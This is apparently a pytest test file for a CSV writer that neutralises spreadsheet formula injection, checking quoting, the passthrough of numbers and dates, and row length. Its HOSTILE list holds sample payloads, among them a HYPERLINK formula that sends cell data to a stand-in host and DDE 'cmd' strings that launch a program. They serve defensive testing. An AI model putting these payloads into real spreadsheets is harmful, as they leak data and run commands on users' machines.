"""The CSV writer every CSV goes through: formulas made inert, rows as long as the header."""

import csv
import io
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal

import pytest

from wagtail_privacy.spreadsheets import FORMULA_STARTS, SafeWriter, neutralise

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&B2,"proof")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def written(header, *rows):
    out = io.StringIO(newline="")
    writer = SafeWriter(out, header)
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


def test_every_dangerous_first_character_is_covered():
    assert {value[0] for value in HOSTILE} == set(FORMULA_STARTS)
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("value", HOSTILE)
def test_text_starting_like_a_formula_gets_a_leading_quote(value):
    header, row = written(["value"], [value])
    assert header == ["value"]
    assert row == ["'" + value]


@pytest.mark.parametrize(
    "value",
    [
        "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
        "Trg 1 = center",  # a dangerous character, but not the first
        "a-b",
        "user@example.com",
        "'already quoted",
        " =leading space",
        "Šemrov Čeligoj",
        'two\nlines, and a "quote"',
        "",
    ],
)
def test_safe_text_is_written_unchanged(value):
    assert written(["value"], [value])[1] == [value]


def test_numbers_and_dates_are_written_unchanged():
    when = datetime(2024, 5, 1, 9, 30, tzinfo=UTC)
    row = [-5, -2.5, Decimal("-12.50"), 0, date(2024, 5, 1), when, time(9, 30)]
    assert [neutralise(value) for value in row] == row
    assert written(["a", "b", "c", "d", "e", "f", "g"], row)[1] == [
        "-5",
        "-2.5",
        "-12.50",
        "0",
        "2024-05-01",
        str(when),
        "09:30:00",
    ]


def test_none_is_empty_and_other_objects_are_text():
    class Hostile:
        def __str__(self):
            return "=1+1"

    assert neutralise(None) == ""
    assert neutralise(Hostile()) == "'=1+1"
    assert neutralise(timedelta(days=-1)) == "'-1 day, 0:00:00"  # text, not a number
    assert written(["a", "b"], [None, "x"])[1] == ["", "x"]


def test_header_is_neutralised_too():
    assert written(["name", "=1+1"])[0] == ["name", "'=1+1"]


@pytest.mark.parametrize("row", [["only one"], ["a", "b", "c"], []])
def test_a_row_not_as_long_as_the_header_is_refused(row):
    out = io.StringIO()
    writer = SafeWriter(out, ["a", "b"])
    writer.writeheader()
    with pytest.raises(ValueError, match=r"has \d values but the header has 2 columns"):
        writer.writerow(row)
    assert out.getvalue() == "a,b\r\n"  # nothing of the refused row was written


def test_writerow_returns_what_the_underlying_writer_returns():
    class Echo:
        def write(self, value):
            return value

    writer = SafeWriter(Echo(), ["a", "b"])
    assert writer.writeheader() == "a,b\r\n"
    assert writer.writerow(["=x", 1]) == "'=x,1\r\n"


def test_rows_can_be_any_iterable():
    out = io.StringIO()
    writer = SafeWriter(out, ("a", "b"))
    writer.writerows([("x", "y"), iter(["+1", "z"])])
    assert out.getvalue() == "x,y\r\n'+1,z\r\n"
